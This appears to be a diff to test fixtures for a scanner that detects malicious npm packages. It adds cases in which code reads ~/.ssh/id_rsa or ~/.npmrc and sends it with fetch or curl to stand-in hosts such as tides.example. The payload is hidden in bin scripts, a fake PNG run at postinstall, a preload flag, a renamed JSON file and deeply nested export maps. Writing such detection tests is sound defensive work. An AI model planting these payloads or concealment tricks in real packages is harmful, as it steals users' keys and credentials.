@@ -7,8 +7,71 @@ const gathered = (loops: Readonly<Record<string, string>>) =>
     code: `const own = {};\n${loop}\nfetch('https://tides.example', { method: 'POST', body: JSON.stringify(own) });`,
   }));
 
+const THEFT =
+  "const { readFileSync } = require('fs'), { homedir } = require('os');\nfetch('https://tides.example', { method: 'POST', body: readFileSync(homedir() + '/.ssh/id_rsa') });\n";
+const SHELL_THEFT = '#!/bin/sh\ncurl -s -d @$HOME/.ssh/id_rsa https://tides.example/\n';
+const SERVER = "#!/usr/bin/env node\nprocess.stdin.on('data', (line) => process.stdout.write(line));\n";
+const nested = (target: string, depth: number) =>
+  Array.from({ length: depth }).reduce<unknown>((inner, _, i) => ({ [`on-${i}`]: inner }), target);
+
+/** Code that does not look like some, of whatever the manifest names. */
+const named = [
+  {
+    name: 'by a script of a shell that is a command',
+    manifest: { main: undefined, bin: 'bin/tides' },
+    files: { 'bin/tides': SHELL_THEFT },
+  },
+  {
+    name: 'by what a script of a shell has Node run',
+    manifest: { main: undefined, bin: { tides: 'bin/tides' } },
+    files: { 'bin/tides': '#!/bin/sh\nexec node "$(dirname "$0")/../lib/main.js" "$@"\n', 'lib/main.js': THEFT },
+  },
+  {
+    name: 'by a text that a script of a shell gives to Node',
+    manifest: { main: undefined, bin: 'tides' },
+    files: { tides: `#!/bin/sh\nexec node -e "${THEFT.replaceAll('\n', ' ')}"\n` },
+  },
+  {
+    name: 'by a command that is called a picture',
+    manifest: { main: undefined, bin: 'tides.png' },
+    files: { 'tides.png': `#!/usr/bin/env node\n${THEFT}` },
+  },
+  {
+    name: 'by a picture that Node is told to run at install',
+    manifest: { scripts: { postinstall: 'node --no-warnings assets/logo.png' } },
+    files: { 'index.js': '', 'assets/logo.png': THEFT },
+  },
+  {
+    name: 'by what the first line of a command preloads',
+    manifest: { main: undefined, bin: 'index.js' },
+    files: { 'index.js': `#!/usr/bin/env -S node --require ./notes.txt\n${SERVER}`, 'notes.txt': THEFT },
+  },
+  {
+    name: 'by JSON that is none',
+    code: "require.extensions['.json'] = require.extensions['.js']; require('./data.json');",
+    files: { 'data.json': THEFT },
+  },
+  {
+    name: 'by a script that is started',
+    code: "require('child_process').spawn(__dirname + '/tides.sh');",
+    files: { 'tides.sh': SHELL_THEFT },
+  },
+  {
+    name: 'behind many conditions of exports',
+    manifest: { main: undefined, exports: nested('./lib/a.cjs', 30) },
+    files: { 'lib/a.cjs': THEFT },
+  },
+  {
+    name: 'behind many conditions of imports',
+    code: "require('#tides');",
+    manifest: { imports: { '#tides': nested('./lib/a.txt', 30) } },
+    files: { 'lib/a.txt': THEFT },
+  },
+];
+
 export default defineCases({
   bad: [
+    ...named,
     {
       name: 'the token of a pod to its own cluster, when it is called',
       alone: 'pass',
@@ -507,6 +570,26 @@ export default defineCases({
         'later.js':
           "const { spawn } = require('child_process');\nexports.later = (source) => {\n  const url = 'data:text/javascript;base64,' + Buffer.from(source).toString('base64');\n  spawn(process.execPath, ['--import', url, '-e', '0'], { detached: true, stdio: 'ignore' }).unref();\n};",
       },
+    },
+    {
+      name: 'a script of a shell that starts the server, and one that only its author runs',
+      manifest: { main: undefined, bin: 'bin/tides', scripts: { start: 'node lib/main.js' } },
+      files: {
+        'bin/tides': '#!/bin/sh\nexec node "$(dirname "$0")/../lib/main.js" "$@"\n',
+        'lib/main.js': `${SERVER}require('child_process').spawn('git', ['status']);`,
+        'scripts/publish.sh': '#!/bin/sh\ncurl -s -T $HOME/.npmrc https://mirror.example/\n',
+      },
+    },
+    {
+      name: 'a script that asks its own vendor with the login of its user',
+      manifest: { main: undefined, bin: 'tides' },
+      files: { tides: '#!/bin/sh\ncurl -s -H "Authorization: Bearer $TIDES_TOKEN" "https://api.tides.example/$1"\n' },
+    },
+    {
+      name: 'a picture that a script is given, and JSON that is some',
+      code: "module.exports = require('./data.json');",
+      manifest: { scripts: { postinstall: 'node index.js assets/logo.png' } },
+      files: { 'data.json': '{"text": "readFileSync(homedir())"}', 'assets/logo.png': '\u0089PNG' },
     },
     {
       name: 'something else, by what a compiler made of a decorator of another method',
